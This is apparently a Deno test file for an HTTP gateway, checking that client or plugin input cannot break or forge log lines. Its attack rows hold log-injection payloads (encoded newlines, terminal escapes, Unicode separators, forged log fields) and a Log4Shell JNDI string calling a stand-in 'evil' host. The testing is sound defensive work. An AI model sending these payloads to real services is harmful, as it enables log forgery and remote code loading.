/** Attack 31: whatever a client or a plugin puts into it, a log record stays one line and can be read. */
import { assert, assertEquals } from "@std/assert";
import { assertRepelled, type Attack } from "../support/attack.ts";
import { attackTest } from "../support/attack_rows.ts";
import { testGateway } from "../support/gateway.ts";
import { PATIENT } from "../support/patient.ts";
import { recordingUpstream } from "../support/recording_upstream.ts";

function asks(name: string, target: string, field = "", reached?: string): Attack {
  return {
    name,
    send: `GET ${target} HTTP/1.1\r\nHost: a\r\n${field}\r\n`,
    answers: [reached === undefined ? 400 : 200],
    reaches: reached === undefined ? [] : [reached],
  };
}

const FORGED = `time="x" level=error message=owned`;

const LINES: readonly Attack[] = [
  asks("a line break in the path", '/api/%0a%1b[31m"}'),
  asks("a carriage return in the path", "/api/%0dx"),
  asks("an escape sequence as it is", '/api/"}{x\x1b[2J', "User-Agent: \x1b[2J\r\n"),
  asks("a bell in the query", "/api/x?\x07"),
  asks(
    "C1 controls in UTF-8",
    '/api/%c2%9b31m"x',
    "User-Agent: \xc2\x9b\r\n",
    "/api/%C2%9B31m%22x",
  ),
  asks("the line separator", "/api/%e2%80%a8x", "", "/api/%E2%80%A8x"),
  asks(
    "JSON in the path",
    '/api/","level":"error","x":"',
    "",
    "/api/%22,%22level%22:%22error%22,%22x%22:%22",
  ),
  asks("a record in the request id", "/api/x", `X-Request-Id: x" level="error\r\n`, "/api/x"),
  asks(
    "a template in the request id",
    "/api/x",
    "X-Request-Id: ${jndi:ldap://evil/a}\r\n",
    "/api/x",
  ), // CVE-2021-44228
  asks("braces for the logger", "/api/{time}{traceId}", "", "/api/%7Btime%7D%7BtraceId%7D"),
  asks(
    "what the plugin logs",
    "/api/x",
    `X-Say: ${FORGED} \xe2\x80\xa9 \xc2\x85\r\n`,
    "/api/x",
  ),
  asks("what the plugin fails with", "/api/x", "X-Fail: \xe2\x80\xa8 \xc2\x9b2J\r\n", "/api/x"),
  asks("a foreign method", "/api/x", "", "/api/x"),
];

const PLUGIN = `export default {
  onError() {},
  beforeRequest(ctx) {
    const say = ctx.request.headers["x-say"];
    if (say !== undefined) ctx.log.warn("said\\n" + say, { say: "\\u001b[2J" + say, ["k\\ney"]: 1 });
    if (ctx.request.headers["x-fail"]) throw new Error("failed\\n\\u001b" + ctx.request.headers["x-fail"]);
  },
};`;

attackTest(
  "attack 31: newlines, quotes and terminal escapes from a client leave every log line whole (CVE-2021-44228)",
  { 31: LINES },
  async (attacks) => {
    for (const format of ["json", "text"]) {
      await using upstream = recordingUpstream();
      await using gateway = await testGateway({
        config: {
          ...PATIENT,
          onHookError: "continue",
          log: { format, level: "info" },
          routes: [{ path: "/api/*", upstream: upstream.url }],
        },
        plugins: { "001-say.ts": PLUGIN },
      });
      await assertRepelled(attacks, { gateway, upstream });
      await gateway.waitForLog((line) => line.message.includes("GET /alive 404"));
      if (format === "json") {
        assertEquals(gateway.logs.filter((line) => line.level === "text"), [], "no JSON");
        const said = gateway.logs.filter((line) => line.message.startsWith("said"));
        assertEquals(said.map((line) => line.level), ["warn"]);
        continue;
      }
      for (const { message } of gateway.logs) {
        // deno-lint-ignore no-control-regex -- that there are none is the point
        assert(!/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(message), JSON.stringify(message));
        // Each record begins with its time: what was said has made no other one.
        assert(/^\d{4}-\d\d-\d\dT\S+Z [A-Z]{4,5} /.test(message), message);
      }
    }
  },
);
